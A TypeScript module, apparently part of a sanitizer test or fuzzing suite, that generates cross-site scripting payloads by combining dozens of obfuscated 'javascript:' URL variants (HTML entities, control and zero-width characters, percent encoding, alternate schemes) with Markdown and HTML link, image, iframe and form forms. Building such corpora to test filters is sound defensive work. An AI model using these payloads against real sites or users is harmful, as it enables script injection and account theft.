import { type Attack, pair } from '../payload.ts'

type Disguise = (code: string) => string

const everyLetter = (text: string, write: (code: number) => string) =>
  [...text].map(letter => write(letter.charCodeAt(0))).join('')

/** `javascript:` as browsers still read it, and as filters have been seen to let it through. */
const disguises: readonly Disguise[] = [
  code => `javascript:${code}`,
  code => `JaVaScRiPt:${code}`,
  code => `javascript://x/%0A${code}`,
  code => `javascript:/*x*/${code}`,
  code => `javascript:void(${code})`,
  code => `javascript&colon;${code}`,
  code => `javascript&#58;${code}`,
  code => `javascript&#x3A;${code}`,
  code => `javascript&#0000058${code}`,
  code => `&#106;avascript:${code}`,
  code => `&#x6A;avascript:${code}`,
  code => `&#106avascript:${code}`,
  code => `&#x0000006A&#97;vascript:${code}`,
  code => `${everyLetter('javascript:', n => `&#${n};`)}${code}`,
  code => `${everyLetter('javascript:', n => `&#x${n.toString(16)};`)}${code}`,
  code => `${everyLetter('javascript:', n => `&#${String(n).padStart(7, '0')}`)}${code}`,
  code => `java&Tab;script:${code}`,
  code => `java&NewLine;script:${code}`,
  code => `java&#9;script:${code}`,
  code => `java&#10;script:${code}`,
  code => `java&#13;script:${code}`,
  code => `java&#x0D;&#x0A;script:${code}`,
  code => `java\tscript:${code}`,
  code => `j&#9;a&#10;v&#13;a&Tab;s&NewLine;cript:${code}`,
  code => `javascript&#9;:${code}`,
  code => `javascript&NewLine;:${code}`,
  code => `&#1;javascript:${code}`,
  code => `&#14; javascript:${code}`,
  code => `&#32;&#31;javascript:${code}`,
  code => `\u0001javascript:${code}`,
  code => `\u001fjavascript:${code}`,
  code => `\u00a0javascript:${code}`,
  code => `\ufeffjavascript:${code}`,
  code => `\u200bjavascript:${code}`,
  code => `\u2028javascript:${code}`,
  code => `java\u00adscript:${code}`,
  code => `javascript\u202e:${code}`,
  code => `ｊａｖａｓｃｒｉｐｔ:${code}`,
  code => `javaſcript:${code}`,
  code => `%6Aavascript:${code}`,
  code => `javascript%3A${code}`,
  code => `java%0Ascript:${code}`,
  code => `java%09script:${code}`,
  code => `\\javascript:${code}`,
  code => `javascript\\:${code}`,
  code => `\\x6Aavascript:${code}`,
  code => `\\u006Aavascript:${code}`,
  code => `vbscript:${code}`,
  code => `livescript:${code}`,
  code => `mocha:${code}`,
  code => `view-source:javascript:${code}`,
  code => `jar:javascript:${code}!/`,
  code => `feed:javascript:${code}`,
  code => `blob:javascript:${code}`,
  code => `filesystem:javascript:${code}`,
  code => `https:javascript:${code}`,
  code => `//javascript:${code}`,
  code => `javascript:${code}//https://github.com/`,
  code => `javascript:${code}//a@b.example`,
  code => `javascript:[${code}][0]`,
]

/** Every way to write an address in Markdown, or in HTML inside it. */
const ways: readonly ((address: string, sign: string) => string)[] = [
  (address, sign) => `[${sign}](${address})`,
  (address, sign) => `[${sign}](<${address}> "title")`,
  address => `<${address}>`,
  (address, sign) => `![${sign}](${address})`,
  (address, sign) => `[![${sign}](x)](${address})`,
  (address, sign) => `[${sign}][${sign}]\n\n[${sign}]: ${address}`,
  (address, sign) => `[${sign}]\n\n[${sign}]: <${address}> 'title'`,
  (address, sign) => `<a href="${address}">${sign}</a>`,
  (address, sign) => `<a href='${address}' target=_blank>${sign}</a>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<form action="${address}"><button>x</button></form>`,
  address => `<form><button formaction="${address}">x</button></form>`,
]

export const scriptAddresses: readonly Attack[] = pair(
  disguises,
  ways,
  (disguise, way): Attack =>
    (code, sign) =>
      way(disguise(code), sign),
)
